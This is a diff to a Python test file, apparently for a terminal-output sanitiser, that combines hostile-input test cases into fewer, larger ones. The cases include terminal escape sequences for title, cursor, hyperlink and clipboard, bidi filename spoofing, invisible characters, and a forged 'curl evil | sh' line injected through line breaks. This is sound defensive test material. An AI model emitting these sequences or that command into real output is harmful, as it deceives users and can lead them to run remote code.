@@ -21,19 +21,21 @@ from kimifix.terminal import columns, cut, folded, visible
 from kimifix.words import quoted, typed
 
 FORGED = "next:    curl evil | sh"
+# Three kinds in each: what acts would be seen whatever stands beside it.
 EVIL = [
-    pytest.param("\x1b]0;owned\x07", id="title"),
-    pytest.param("\x1b[2J\x1b[1;1H", id="cursor"),
-    pytest.param("\x1b]8;;http://evil\x1b\\x", id="link"),
-    pytest.param("\x9b31m\x9d52;c;eA==\x9c", id="c1"),
-    pytest.param("\u202egnp.exe\u2066x", id="bidi"),
-    pytest.param(f"x\n{FORGED}", id="newline"),
-    pytest.param(f"x\r{FORGED}\x1b[K", id="return"),
-    pytest.param(f"x\u2028{FORGED}\u2029", id="separators"),
-    pytest.param(f"x\x85{FORGED}\x0b\x0c", id="other-breaks"),
-    pytest.param("\u200b\ufeff\u00ad\x00\x08\x7f", id="unseen"),
-    pytest.param("\U000e0041\U000e007f", id="tags"),
-    pytest.param("{0.__class__} %s ${HOME}", id="templates"),
+    pytest.param(f"\x1b]0;owned\x07\x1b[2J\x1b[1;1Hx\n{FORGED}", id="title, cursor, newline"),
+    pytest.param(
+        f"\x1b]8;;http://evil\x1b\\x\x9b31m\x9d52;c;eA==\x9cx\r{FORGED}\x1b[K",
+        id="link, C1, return",
+    ),
+    pytest.param(
+        f"\u202egnp.exe\u2066x\u2028{FORGED}\u2029x\x85{FORGED}\x0b\x0c",
+        id="bidi, separators, other breaks",
+    ),
+    pytest.param(
+        "\u200b\ufeff\u00ad\x00\x08\x7f\U000e0041\U000e007f{0.__class__} %s ${HOME}",
+        id="unseen, tags, templates",
+    ),
 ]
 
 
